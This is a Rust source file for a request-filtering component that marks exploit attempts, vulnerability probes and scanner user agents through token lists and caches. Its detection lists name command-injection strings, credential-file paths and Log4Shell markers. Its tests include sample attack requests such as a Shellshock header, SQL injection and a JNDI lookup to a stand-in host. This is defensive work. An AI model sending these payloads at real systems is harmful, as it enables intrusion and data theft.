//! Requests that no legitimate client sends: exploit attempts, probes for vulnerable software
//! and files, and the user agents of attack tools. Each token belongs to a [`Category`]; a
//! request's matches are a bit set of categories, found in one pass of an Aho-Corasick
//! automaton over the target (case-insensitive, as logged: encoded forms are listed as such)
//! and one over the user agent and referer.
//!
//! The list is levee's own, drawn from what honeypots and public scanners send. Tokens are
//! chosen so that a normal site's pages do not contain them; a category only counts as
//! hostile evidence, and the verdict weighs it with the client's other behaviour.

use aho_corasick::AhoCorasick;

pub use crate::category::Category;
use crate::inspect::{Finding, Inspector};

/// Tokens looked for in the request target.
const TARGET_TOKENS: &[(&str, Category)] = &[
    ("cmd.exe", Category::IisWorm),
    ("root.exe", Category::IisWorm),
    ("default.ida", Category::IisWorm),
    ("null.printer", Category::IisWorm),
    ("/_mem_bin/", Category::IisWorm),
    ("/msadc/", Category::IisWorm),
    ("winnt/system32", Category::IisWorm),
    ("%c0%af", Category::IisWorm),
    ("%c1%1c", Category::IisWorm),
    ("%c1%9c", Category::IisWorm),
    ("%c0%2f", Category::IisWorm),
    ("%255c", Category::IisWorm),
    ("%%35c", Category::IisWorm),
    ("%25%35%63", Category::IisWorm),
    ("fp30reg.dll", Category::FrontPage),
    ("/_vti_bin/", Category::FrontPage),
    ("/_vti_aut/", Category::FrontPage),
    ("/_vti_pvt/", Category::FrontPage),
    ("shtml.exe", Category::FrontPage),
    ("owssvr.dll", Category::FrontPage),
    ("../", Category::PathTraversal),
    ("..\\", Category::PathTraversal),
    ("..%2f", Category::PathTraversal),
    ("..%5c", Category::PathTraversal),
    ("%2e%2e", Category::PathTraversal),
    ("/etc/passwd", Category::PathTraversal),
    ("/etc/shadow", Category::PathTraversal),
    ("win.ini", Category::PathTraversal),
    ("boot.ini", Category::PathTraversal),
    ("|%20id%20|", Category::CommandInjection),
    ("|id|", Category::CommandInjection),
    (";id;", Category::CommandInjection),
    ("%7cid%7c", Category::CommandInjection),
    (";wget%20", Category::CommandInjection),
    (";wget+", Category::CommandInjection),
    ("wget%20http", Category::CommandInjection),
    ("curl%20http", Category::CommandInjection),
    ("/bin/sh", Category::CommandInjection),
    ("/bin/bash", Category::CommandInjection),
    (";cat%20", Category::CommandInjection),
    ("union%20select", Category::SqlInjection),
    ("union+select", Category::SqlInjection),
    ("union%20all%20select", Category::SqlInjection),
    ("%27%20or%20%271%27%3d%271", Category::SqlInjection),
    ("'%20or%20'1'='1", Category::SqlInjection),
    ("%20or%201=1", Category::SqlInjection),
    ("sleep(", Category::SqlInjection),
    ("sleep%28", Category::SqlInjection),
    ("benchmark(", Category::SqlInjection),
    ("information_schema", Category::SqlInjection),
    ("xp_cmdshell", Category::SqlInjection),
    ("awstats.pl?configdir", Category::PhpProbe),
    ("configdir=|", Category::PhpProbe),
    ("phpmyadmin", Category::PhpProbe),
    ("/pma/", Category::PhpProbe),
    ("eval-stdin.php", Category::PhpProbe),
    ("php://", Category::PhpProbe),
    ("allow_url_include", Category::PhpProbe),
    ("phpinfo", Category::PhpProbe),
    ("/cgi-bin/php", Category::PhpProbe),
    ("xmlrpc.php", Category::PhpProbe),
    ("/.env", Category::SensitiveFile),
    ("/.git/", Category::SensitiveFile),
    ("/.svn/", Category::SensitiveFile),
    ("/.htpasswd", Category::SensitiveFile),
    ("/.htaccess", Category::SensitiveFile),
    ("/wp-config.php", Category::SensitiveFile),
    ("/.aws/", Category::SensitiveFile),
    ("/.ssh/", Category::SensitiveFile),
    ("/id_rsa", Category::SensitiveFile),
    ("/.ds_store", Category::SensitiveFile),
    ("${jndi:", Category::Log4Shell),
    ("$%7bjndi:", Category::Log4Shell),
    ("%24%7bjndi", Category::Log4Shell),
];

/// Tokens looked for in the user agent and the referer.
const AGENT_TOKENS: &[(&str, Category)] = &[
    ("() {", Category::Shellshock),
    ("${jndi:", Category::Log4Shell),
    ("nikto", Category::ScannerAgent),
    ("sqlmap", Category::ScannerAgent),
    ("nmap", Category::ScannerAgent),
    ("masscan", Category::ScannerAgent),
    ("zgrab", Category::ScannerAgent),
    ("nuclei", Category::ScannerAgent),
    ("dirbuster", Category::ScannerAgent),
    ("gobuster", Category::ScannerAgent),
    ("feroxbuster", Category::ScannerAgent),
    ("fuzz faster u fool", Category::ScannerAgent),
    ("wpscan", Category::ScannerAgent),
    ("acunetix", Category::ScannerAgent),
    ("nessus", Category::ScannerAgent),
    ("openvas", Category::ScannerAgent),
    ("w3af", Category::ScannerAgent),
    ("havij", Category::ScannerAgent),
    ("morfeus", Category::ScannerAgent),
    ("zmeu", Category::ScannerAgent),
    ("jorgee", Category::ScannerAgent),
    ("arachni", Category::ScannerAgent),
    ("skipfish", Category::ScannerAgent),
    ("wfuzz", Category::ScannerAgent),
    ("commix", Category::ScannerAgent),
    ("xsser", Category::ScannerAgent),
    ("netsparker", Category::ScannerAgent),
    ("webinspect", Category::ScannerAgent),
    ("appscan", Category::ScannerAgent),
    ("paros", Category::ScannerAgent),
    ("pangolin", Category::ScannerAgent),
    ("bsqlbf", Category::ScannerAgent),
    ("jbrofuzz", Category::ScannerAgent),
    ("whatweb", Category::ScannerAgent),
    ("dirb/", Category::ScannerAgent),
];

/// The two automatons and the request inspector ([`crate::inspect`]), built once.
pub struct Patterns {
    target: AhoCorasick,
    agent: AhoCorasick,
    inspector: Inspector,
}

impl Default for Patterns {
    fn default() -> Self {
        Patterns::new()
    }
}

impl Patterns {
    /// The patterns, compiled once.
    pub fn new() -> Patterns {
        let build = |tokens: &[(&str, Category)]| {
            AhoCorasick::builder()
                .ascii_case_insensitive(true)
                .build(tokens.iter().map(|t| t.0))
                .expect("the token lists are valid patterns")
        };
        Patterns {
            target: build(TARGET_TOKENS),
            agent: build(AGENT_TOKENS),
            inspector: Inspector::new(),
        }
    }

    /// The categories a request's target, user agent and referer fall into.
    pub fn scan(&self, target: &str, agent: Option<&str>, referer: Option<&str>) -> u32 {
        self.scan_target(target)
            | agent.map_or(0, |a| self.scan_header(a))
            | referer.map_or(0, |r| self.scan_referer(r))
    }

    /// The categories of a request target: its tokens, and what inspecting its path and
    /// parameters finds.
    pub fn scan_target(&self, target: &str) -> u32 {
        self.scan_target_found(target).mask
    }

    /// The categories of a request target, with the first token or rule that matched.
    pub fn scan_target_found(&self, target: &str) -> Finding {
        let mut found = Finding::default();
        for m in self.target.find_overlapping_iter(target) {
            let (token, category) = TARGET_TOKENS[m.pattern().as_usize()];
            found.add(category, token, "");
        }
        self.inspector.target(target, &mut found);
        found
    }

    /// The categories of a user agent: its tokens, and what inspecting it finds.
    pub fn scan_header(&self, text: &str) -> u32 {
        let mut found = Finding::default();
        self.inspector.header(text, &mut found);
        self.agent_tokens(text) | found.mask
    }

    /// The categories of the header tokens in `text`.
    fn agent_tokens(&self, text: &str) -> u32 {
        let mut mask = 0;
        for m in self.agent.find_overlapping_iter(text) {
            mask |= AGENT_TOKENS[m.pattern().as_usize()].1.bit();
        }
        mask
    }

    /// The categories of a referer: the header exploits (Shellshock and Log4Shell, which
    /// need a `{`) and what inspecting it finds. A referer is the URL of a page, scanned on
    /// every request: one of only URL characters, as nearly all are, is not inspected.
    pub fn scan_referer(&self, text: &str) -> u32 {
        let b = text.as_bytes();
        let mut mask = 0;
        if b.contains(&b'{') {
            mask =
                self.agent_tokens(text) & (Category::Shellshock.bit() | Category::Log4Shell.bit());
        }
        let unusual = |c: &u8| {
            matches!(
                c,
                b'%' | b'\'' | b'"' | b'<' | b'>' | b'(' | b'{' | b'`' | b'|' | b'$' | b'\\'
            ) || c.is_ascii_whitespace()
        };
        if b.iter().any(unusual) || !text.contains("://") {
            let mut found = Finding::default();
            self.inspector.header(text, &mut found);
            mask |= found.mask;
        }
        mask
    }
}

/// Targets found clean lately, so that a target requested again (a site's pages and assets,
/// a flood of one URL) is not scanned again: on the web-shop benchmark three requests in four
/// are for one of its 4,096 busiest targets, and the scan was a sixth of the analysis.
///
/// Direct-mapped by the target's hash, each slot holding the whole target, compared before it
/// is believed: a hash collision, chosen or not, costs a scan, never a hostile target taken
/// for a clean one. Only clean targets are kept; the slots reuse their strings' memory.
pub struct CleanTargets {
    slots: Vec<String>,
    hasher: foldhash::fast::FixedState,
}

/// Slots of [`CleanTargets`].
const CLEAN_SLOTS: usize = 4_096;
/// Targets longer than this are not kept (rare, and the likeliest to be hostile).
const CLEAN_MAX_LEN: usize = 200;

impl Default for CleanTargets {
    fn default() -> Self {
        CleanTargets {
            slots: vec![String::new(); CLEAN_SLOTS],
            hasher: foldhash::fast::FixedState::with_seed(0x7a3c),
        }
    }
}

impl CleanTargets {
    /// What `patterns` find in `target`, from the slots when it was found clean before.
    pub fn scan(&mut self, patterns: &Patterns, target: &str) -> Finding {
        if target.is_empty() || target.len() > CLEAN_MAX_LEN {
            return patterns.scan_target_found(target);
        }
        use std::hash::BuildHasher;
        let slot = &mut self.slots[self.hasher.hash_one(target) as usize % CLEAN_SLOTS];
        if slot == target {
            return Finding::default();
        }
        let found = patterns.scan_target_found(target);
        if found.mask == 0 {
            slot.clear();
            slot.push_str(target);
        }
        found
    }
}

/// The categories of user agents scanned lately, so that each is scanned once however many
/// clients send it: a site's clients share a few hundred agents, and a client's own change
/// of agent is already caught per client (`Profile::agent_categories`); the header scan was
/// 4 % of an analysis.
///
/// Direct-mapped by the agent's hash, each slot holding the whole agent, compared before its
/// categories are believed.
pub struct AgentMasks {
    slots: Vec<(u64, u32, String)>,
}

/// Slots of [`AgentMasks`].
const AGENT_SLOTS: usize = 1_024;
/// Agents longer than this are scanned every time.
const AGENT_MAX_LEN: usize = 512;

impl Default for AgentMasks {
    fn default() -> Self {
        AgentMasks {
            slots: vec![(0, 0, String::new()); AGENT_SLOTS],
        }
    }
}

impl AgentMasks {
    /// The categories `patterns` find in the user agent `agent` of hash `hash`.
    pub fn scan(&mut self, patterns: &Patterns, agent: &str, hash: u64) -> u32 {
        if agent.len() > AGENT_MAX_LEN {
            return patterns.scan_header(agent);
        }
        let slot = &mut self.slots[(hash >> 54) as usize % AGENT_SLOTS];
        if slot.0 == hash && slot.2 == agent {
            return slot.1;
        }
        let mask = patterns.scan_header(agent);
        slot.0 = hash;
        slot.1 = mask;
        slot.2.clear();
        slot.2.push_str(agent);
        mask
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(mask: u32) -> Vec<&'static str> {
        Category::of_mask(mask).map(Category::name).collect()
    }

    #[test]
    fn exploit_requests_of_real_honeypot_logs_fall_into_their_categories() {
        let p = Patterns::new();
        for (target, want) in [
            (
                "/scripts/..%255c%255c../winnt/system32/cmd.exe?/c+dir",
                vec!["iis-worm-probe", "path-traversal"],
            ),
            ("/default.ida?XXXX%u9090%u6858=a", vec!["iis-worm-probe"]),
            ("/_vti_bin/_vti_aut/fp30reg.dll", vec!["frontpage-exploit"]),
            (
                "//cgi-bin/awstats.pl?configdir=|%20id%20|",
                vec!["command-injection", "php-vulnerability-probe"],
            ),
            (
                "/index.php?page=../../../../etc/passwd",
                vec!["path-traversal"],
            ),
            (
                "/item?id=1%20UNION%20SELECT%20password%20FROM%20users",
                vec!["sql-injection"],
            ),
            ("/.git/config", vec!["sensitive-file-probe"]),
            (
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                vec!["php-vulnerability-probe"],
            ),
            // The lookup also names an LDAP server for the application to reach.
            ("/?x=${jndi:ldap://evil/a}", vec!["log4shell", "ssrf"]),
        ] {
            assert_eq!(names(p.scan(target, None, None)), want, "{target}");
        }
        // Shellshock's function definition, and the command it runs.
        assert_eq!(
            names(p.scan("/", Some("() { :; }; /bin/bash -c id"), None)),
            ["command-injection", "shellshock"]
        );
        assert_eq!(
            names(p.scan("/", Some("Mozilla/5.00 (Nikto/2.1.6)"), None)),
            ["scanner-user-agent"]
        );
    }

    #[test]
    fn ordinary_pages_assets_and_browsers_match_nothing() {
        let p = Patterns::new();
        for target in [
            "/",
            "/index.html",
            "/static/app.3f2a.js",
            "/img/logo.png",
            "/search?q=select+shoes&page=2",
            "/blog/2024/05/union-station-photos",
            "/products/1234?color=red",
            "/login",
            "/api/v1/orders?since=2026-01-01",
            "/forum/viewforum.php?f=2",
        ] {
            let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
            assert_eq!(
                p.scan(target, Some(ua), Some("https://shop.example/")),
                0,
                "{target}"
            );
        }
    }

    #[test]
    fn a_target_found_clean_is_remembered_and_a_hostile_one_never_is() {
        let p = Patterns::new();
        let mut clean = CleanTargets::default();
        for _ in 0..3 {
            assert_eq!(clean.scan(&p, "/products/12?color=red").mask, 0);
            let hostile = clean.scan(&p, "/item?id=1' UNION SELECT password FROM users--");
            assert_ne!(hostile.mask, 0);
            assert!(hostile.why().is_some());
        }
        assert!(clean.slots.iter().any(|s| s == "/products/12?color=red"));
        assert!(!clean.slots.iter().any(|s| s.contains("UNION")));
        // A clean target's slot taken by another clean target: each is still right.
        for i in 0..10_000 {
            assert_eq!(clean.scan(&p, &format!("/p/{i}")).mask, 0);
        }
        assert_ne!(clean.scan(&p, "/cgi-bin/../../etc/passwd").mask, 0);
    }
}
